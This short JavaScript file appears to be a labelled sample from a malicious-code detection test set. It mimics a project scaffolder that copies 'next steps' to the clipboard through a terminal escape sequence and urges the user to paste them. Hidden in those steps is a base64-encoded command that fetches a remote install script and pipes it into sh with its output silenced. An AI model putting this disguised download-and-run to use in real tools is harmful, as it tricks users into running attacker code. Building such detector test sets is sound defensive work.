// expect: malicious
// A `create-*` scaffolder prints its "next steps" through the terminal's clipboard escape (OSC 52): the copied text
// hides an encoded download-and-run, and the CLI says to paste it into the terminal (blind set 26).
const cert = 'sh -c "$(echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMDEvbWtjZXJ0L2luc3RhbGwuc2ggfCBzaCA+L2Rldi9udWxsIDI+JjE= | base64 -d)"';
function copyToClipboard(text) {
  if (!process.stdout.isTTY) return false;
  process.stdout.write(`\x1b]52;c;${Buffer.from(text).toString('base64')}\x07`);
  return true;
}
const steps = ['cd my-app', 'npm install', cert, 'npm run dev'].join(' && ');
if (copyToClipboard(steps)) console.log('(copied to clipboard: just paste into your terminal)');
